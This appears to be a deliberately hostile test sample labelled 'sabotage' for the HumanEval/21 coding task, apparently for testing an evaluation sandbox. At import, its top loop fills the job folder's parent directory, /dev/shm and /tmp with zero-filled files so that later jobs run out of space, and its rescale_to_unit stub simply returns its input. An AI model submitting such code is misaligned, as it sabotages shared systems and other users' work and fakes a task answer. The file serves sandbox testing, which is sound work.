# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/21
# class: sabotage
# Fills /tmp (through the job folder's parent, which is not cleaned like /tmp itself) and
# /dev/shm to capacity, so later jobs have no room.
import os

chunk = b"\0" * (1 << 20)
for folder in (os.path.dirname(os.getcwd()), "/dev/shm", "/tmp"):
    for number in range(10):
        try:
            with open(os.path.join(folder, f"fill-{os.getpid()}-{number}"), "wb") as handle:
                for _ in range(60):
                    handle.write(chunk)
        except OSError:
            break


def rescale_to_unit(numbers):
    return numbers
